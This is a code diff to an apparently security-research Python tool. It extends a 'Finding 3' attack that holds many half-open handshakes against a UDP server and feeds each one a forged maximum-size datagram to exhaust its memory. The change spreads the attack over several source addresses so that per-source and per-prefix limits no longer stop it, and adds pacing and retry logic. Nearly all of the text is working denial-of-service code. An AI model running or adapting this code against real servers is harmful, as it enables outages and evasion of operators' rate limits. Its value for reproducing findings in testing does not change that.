@@ -271,15 +271,21 @@ def cmd_flood(a):
 
 
 def cmd_memory(a):
-    """Finding 3: half-opens each fed a forged HANDSHAKE datagram as large as UDP allows."""
+    """Finding 3: half-opens each fed a forged HANDSHAKE datagram as large as UDP allows.
+
+    --bind may list several addresses (comma-separated): the half-opens are spread evenly over
+    them, each fed from its own address, so per-source and per-prefix limits are respected."""
     server = addr(a.server)
-    s, c = udp_socket(a.bind), Counter()
-    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
-    pending, opened = {}, {}
-    stats = {"half_opens": 0, "forged": 0, "initials": 0}
+    socks = [udp_socket(b) for b in a.bind.split(",")]
+    for s in socks:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
+    quota = -(-a.count // len(socks))
+    c = Counter()
+    pending, opened, owned, inflight = {}, {}, {s: 0 for s in socks}, {s: 0 for s in socks}
+    stats = {"half_opens": 0, "forged": 0, "initials": 0, "sources": len(socks)}
     garbage = os.urandom(a.size - 9)
 
-    def on(dg):
+    def on(s, dg):
         if dg[0] == d.RETRY and len(dg) == 29:
             att = pending.get(dg[1:5])
             if att and not att.cookie and att.on_retry(dg):
@@ -291,6 +297,8 @@ def cmd_memory(a):
         elif dg[0] == d.SERVER_HELLO and len(dg) == 75:
             att = pending.pop(dg[1:5], None)
             if att and att.on_server_hello(dg):
+                inflight[s] = max(0, inflight[s] - 1)
+                owned[s] += 1
                 if len(opened) < 8:
                     opened[att.client_sid] = att
                 stats["half_opens"] += 1
@@ -298,16 +306,37 @@ def cmd_memory(a):
                 send(s, c, forged, server)
                 stats["forged"] += 1
 
-    start = time.monotonic()
+    start = last = time.monotonic()
     while stats["half_opens"] < a.count and time.monotonic() - start < a.seconds:
-        for _ in range(32):
-            att = d.Attempt()
-            pending[att.client_sid] = att
-            send(s, c, att.initial(), server)
-            stats["initials"] += 1
-        drain(s, c, time.monotonic() + 0.02, on)
-    drain(s, c, time.monotonic() + 0.5, on)
-    c.report(**stats)
+        now = time.monotonic()
+        if now - last >= 0.05:
+            last = now
+            for s in socks:
+                if owned[s] + inflight[s] < quota and inflight[s] < 4:
+                    att = d.Attempt()
+                    pending[att.client_sid] = att
+                    inflight[s] += 1
+                    send(s, c, att.initial(), server)
+                    stats["initials"] += 1
+                elif inflight[s] >= 4 and owned[s] < quota:
+                    inflight[s] = 0   # refused or lost: try again
+        r, _, _ = select.select(socks, [], [], 0.01)
+        for s in r:
+            while True:
+                try:
+                    dg, src = s.recvfrom(65536, socket.MSG_DONTWAIT)
+                except BlockingIOError:
+                    break
+                c.add_received(src[0], dg)
+                on(s, dg)
+    end = time.monotonic() + 0.5
+    while time.monotonic() < end:
+        r, _, _ = select.select(socks, [], [], 0.05)
+        for s in r:
+            dg, src = s.recvfrom(65536)
+            c.add_received(src[0], dg)
+    c.sent = {"total": (sum(v[0] for v in c.sent.values()), sum(v[1] for v in c.sent.values()))}
+    c.report(elapsed=round(time.monotonic() - start, 2), **stats)
 
 
 def cmd_relay(a):
